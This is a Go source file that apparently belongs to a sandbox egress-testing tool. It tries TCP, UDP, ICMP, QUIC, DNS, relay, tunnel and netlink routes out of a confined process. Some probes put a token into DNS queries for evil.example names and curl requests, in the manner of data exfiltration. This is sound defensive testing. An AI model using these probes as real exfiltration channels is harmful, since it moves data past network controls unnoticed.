//go:build linux

package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/bailey-project/bailey/internal/probe"
)

func (t *try) dial(network, addr string) {
	d := net.Dialer{Timeout: patience}
	d.SetMultipathTCP(false)
	c, err := d.Dial(network, addr)
	if err != nil {
		if os.IsTimeout(err) {
			t.saw(probe.Silent)
		} else {
			t.saw(errno(err))
		}
		return
	}
	t.exchange(c)
}

// ports are those of the arguments; "any" is the sinks' own.
func (t *try) ports() []string {
	if len(t.args) == 1 && t.args[0] == "any" {
		return []string{itoa(t.Port)}
	}
	return t.args
}

func tcp(t *try) {
	for _, port := range t.ports() {
		t.dial("tcp4", net.JoinHostPort(probe.Ext4, port))
		t.dial("tcp6", net.JoinHostPort(probe.Ext6, port))
	}
}

func tcpTo(t *try) {
	for _, addr := range t.args {
		t.dial("tcp", addr)
	}
}

func loopback(t *try) {
	for _, port := range t.args {
		t.dial("tcp4", "127.0.0.1:"+port)
		t.dial("tcp6", "[::1]:"+port)
	}
}

// namedTCP does what a program does: it resolves the name and connects.
func namedTCP(t *try) {
	for _, name := range t.args {
		ctx, cancel := context.WithTimeout(context.Background(), 2*patience)
		addrs, err := net.DefaultResolver.LookupHost(ctx, name)
		cancel()
		if err != nil || len(addrs) == 0 {
			t.saw(probe.NoName)
			continue
		}
		t.dial("tcp", net.JoinHostPort(addrs[0], "443"))
	}
}

// fetch is what an allowed host must answer.
func fetch(t *try) {
	c := http.Client{Timeout: limit / 2}
	res, err := c.Get("https://ok.example/ping")
	if err != nil {
		t.saw(err.Error())
		return
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(res.Body, 256))
	if res.StatusCode == http.StatusOK && strings.Contains(string(b), "pong") {
		t.claim = "an answer"
	} else {
		t.saw(res.Status)
	}
}

// overHTTP lets curl read the spelling of an address, as a script would.
func overHTTP(t *try) {
	for _, host := range t.args {
		t.shell(`curl -g -sS -m2 --noproxy '*' "http://` + host + `:$PORT/$TOKEN" | grep -o -e SINK -e 'did not let' | tee /dev/stderr | grep -q SINK && echo GOT an answer from '` + host + `'; true`)
	}
}

func (t *try) sendTo(family, kind int, flags int, to unix.Sockaddr) {
	fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.saw(errno(err))
		return
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	if err := unix.Sendto(fd, []byte(t.token()+"\n"), flags, to); err != nil {
		t.saw(errno(err))
		return
	}
	b := make([]byte, 64)
	n, _, err := unix.Recvfrom(fd, b, 0)
	switch {
	case n > 0:
		t.claim = "an answer"
	case errors.Is(err, unix.EAGAIN):
		t.saw(probe.Silent)
	case err == nil:
		t.saw(probe.Closed)
	default:
		if e := errno(err); e == "ECONNRESET" {
			t.saw(probe.Closed)
		} else {
			t.saw(e)
		}
	}
}

func addr4(ip string, port int) *unix.SockaddrInet4 {
	a := &unix.SockaddrInet4{Port: port}
	copy(a.Addr[:], net.ParseIP(ip).To4())
	return a
}

func addr6(ip string, port int) *unix.SockaddrInet6 {
	a := &unix.SockaddrInet6{Port: port}
	copy(a.Addr[:], net.ParseIP(ip).To16())
	return a
}

func fastOpen(t *try) {
	t.sendTo(unix.AF_INET, unix.SOCK_STREAM, unix.MSG_FASTOPEN, addr4(probe.Ext4, t.Port))
	t.sendTo(unix.AF_INET6, unix.SOCK_STREAM, unix.MSG_FASTOPEN, addr6(probe.Ext6, t.Port))
}

func mptcp(t *try) {
	for _, f := range []int{unix.AF_INET, unix.AF_INET6} {
		fd, err := unix.Socket(f, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, unix.IPPROTO_MPTCP)
		if err != nil {
			t.saw(errno(err))
			continue
		}
		to := unix.Sockaddr(addr4(probe.Ext4, t.Port))
		if f == unix.AF_INET6 {
			to = addr6(probe.Ext6, t.Port)
		}
		if err = unix.Connect(fd, to); err == nil {
			_, err = unix.Write(fd, []byte(t.token()+"\n"))
		}
		t.met(err, "connected")
		unix.Close(fd)
	}
}

func udp(t *try) {
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, addr4(probe.Ext4, t.Port))
	t.sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, addr6(probe.Ext6, t.Port))
}

func udpOdd(t *try) {
	t.sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, addr6("::ffff:"+probe.Ext4, t.Port))
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, addr4("255.255.255.255", t.Port))
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, addr4("224.0.0.251", 5353))
	c, err := net.Dial("udp4", net.JoinHostPort(probe.Ext4, itoa(t.Port)))
	if err != nil {
		t.saw(errno(err))
		return
	}
	defer c.Close()
	raw, _ := c.(*net.UDPConn).SyscallConn()
	_ = raw.Control(func(fd uintptr) {
		_ = unix.SetsockoptInt(int(fd), unix.IPPROTO_UDP, unix.UDP_SEGMENT, 64)
		for range 3 {
			_ = unix.Sendmsg(int(fd), []byte(t.token()+"\n"), nil, nil, 0)
		}
	})
}

func quic(t *try) {
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, addr4(probe.Ext4, 443))
	t.sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, addr6(probe.Ext6, 443))
}

// ping sends an echo request that carries the token; everything answers in the
// fixture machine, where every address is its own.
func ping(t *try) {
	for _, kind := range []int{unix.SOCK_DGRAM, unix.SOCK_RAW} {
		fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
		if err != nil {
			t.saw(errno(err))
			continue
		}
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
		b := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, t.token()...)
		binary.BigEndian.PutUint16(b[2:], checksum(b))
		err = unix.Sendto(fd, b, 0, addr4(probe.Ext4, 0))
		if err == nil {
			_, _, err = unix.Recvfrom(fd, make([]byte, 256), 0)
		}
		if t.met(err, "an echo") {
			t.claim = "an echo"
		}
		unix.Close(fd)
	}
}

// checksum is that of RFC 1071.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i < len(b); i += 2 {
		sum += uint32(b[i]) << 8
		if i+1 < len(b) {
			sum += uint32(b[i+1])
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// query is a question for name as RFC 1035 writes it.
func query(name string, kind uint16) []byte {
	b := []byte{0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	b = append(b, 0)
	b = binary.BigEndian.AppendUint16(b, kind)
	return binary.BigEndian.AppendUint16(b, 1)
}

// ask sends a question and looks whether the answer has anything in it.
func (t *try) ask(network, addr, name string, kind uint16) {
	c, err := net.DialTimeout(network, addr, patience)
	if err != nil {
		t.saw(errno(err))
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	q := query(name, kind)
	if network == "tcp" {
		q = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
	}
	_, _ = c.Write(q)
	b := make([]byte, 512)
	n, err := c.Read(b)
	if network == "tcp" && n > 2 {
		b, n = b[2:], n-2
	}
	switch {
	case err != nil && os.IsTimeout(err):
		t.saw(probe.Silent)
	case errors.Is(err, io.EOF), errors.Is(err, unix.ECONNRESET):
		t.saw(probe.Closed)
	case err != nil:
		t.saw(errno(err))
	case n >= 8 && binary.BigEndian.Uint16(b[6:]) > 0:
		t.claim = "an answer to " + name
	default:
		t.saw(probe.NoName)
	}
}

const (
	typeA   = 1
	typeTXT = 16
)

func dns(t *try) {
	name := t.token() + ".x.evil.example"
	for _, server := range []string{"1.1.1.1", "8.8.8.8", "[2606:4700:4700::1111]", "198.18.0.1"} {
		t.ask("udp", server+":53", name, typeA)
		t.ask("tcp", server+":53", name, typeA)
	}
	t.dial("tcp", "9.9.9.9:853")
}

func dnsTXT(t *try) {
	t.ask("udp", "198.18.0.1:53", "payload."+t.token()+".evil.example", typeTXT)
	t.ask("udp", "1.1.1.1:53", "payload."+t.token()+".evil.example", typeTXT)
}

func dnsName(t *try) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*patience)
	defer cancel()
	addrs, err := net.DefaultResolver.LookupHost(ctx, t.token()+".canary.example")
	if err == nil && len(addrs) > 0 {
		t.claim = "an address"
		return
	}
	t.saw(probe.NoName)
}

// relayed connects through a relay of the sandbox's own.
func relayed(t *try) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.saw(errno(err))
		return
	}
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		up, err := net.DialTimeout("tcp", net.JoinHostPort(probe.Ext4, itoa(t.Port)), patience)
		if err != nil {
			c.Close()
			return
		}
		go func() { _, _ = io.Copy(up, c) }()
		_, _ = io.Copy(c, up)
		c.Close()
	}()
	t.dial("tcp", l.Addr().String())
}

// tunnels asks for a tun device and a new interface.
func tunnels(t *try) {
	f, err := os.OpenFile("/dev/net/tun", os.O_RDWR, 0)
	if err == nil {
		f.Close()
	} else if !errors.Is(err, os.ErrNotExist) || os.Getuid() == 0 {
		t.saw(errno(err))
	}
	t.met(newAddress(), "a new address")
	t.met(newLink("dummy"), "a new interface")
	t.met(newLink("veth"), "a pair of interfaces")
	t.met(newLink("bridge"), "a bridge")
}

func netConfig(t *try) {
	t.met(newAddress(), "a new address")
	t.met(interfaceDown("lo"), "took the loopback down")
	t.socket("netfilter", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER)
}

func attribute(kind uint16, b []byte) []byte {
	a := binary.NativeEndian.AppendUint16(nil, uint16(4+len(b)))
	a = append(binary.NativeEndian.AppendUint16(a, kind), b...)
	return append(a, make([]byte, (4-len(a)%4)%4)...)
}

// newLink asks for an interface of a kind.
func newLink(kind string) error {
	info := attribute(unix.IFLA_LINKINFO, attribute(unix.IFLA_INFO_KIND, []byte(kind)))
	return routeRequest(unix.RTM_NEWLINK, append(make([]byte, unix.SizeofIfInfomsg), info...))
}

// newAddress asks for one more address of the loopback.
func newAddress() error {
	head := []byte{unix.AF_INET, 32, 0, 0, 1, 0, 0, 0} // struct ifaddrmsg
	return routeRequest(unix.RTM_NEWADDR, append(head, attribute(unix.IFA_LOCAL, []byte{10, 99, 99, byte(os.Getpid())})...))
}

// routeRequest makes one request by rtnetlink (rtnetlink(7)).
func routeRequest(kind uint16, body []byte) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	m := binary.NativeEndian.AppendUint32(nil, uint32(unix.SizeofNlMsghdr+len(body)))
	m = binary.NativeEndian.AppendUint16(m, kind)
	m = binary.NativeEndian.AppendUint16(m, unix.NLM_F_REQUEST|unix.NLM_F_ACK|unix.NLM_F_CREATE|unix.NLM_F_EXCL)
	m = append(append(m, make([]byte, 8)...), body...)
	if err := unix.Sendto(fd, m, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	b := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, b, 0)
	if err != nil || n < unix.SizeofNlMsghdr+4 {
		return err
	}
	if e := int32(binary.NativeEndian.Uint32(b[unix.SizeofNlMsghdr:])); e != 0 {
		return syscall.Errno(-e)
	}
	return nil
}

// interfaceDown reads the flags and asks for the same without IFF_UP; the
// control keeps the fixture's own loopback by asking for what is there.
func interfaceDown(name string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	ifr, err := unix.NewIfreq(name)
	if err != nil {
		return err
	}
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFFLAGS, ifr); err != nil {
		return err
	}
	return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr)
}
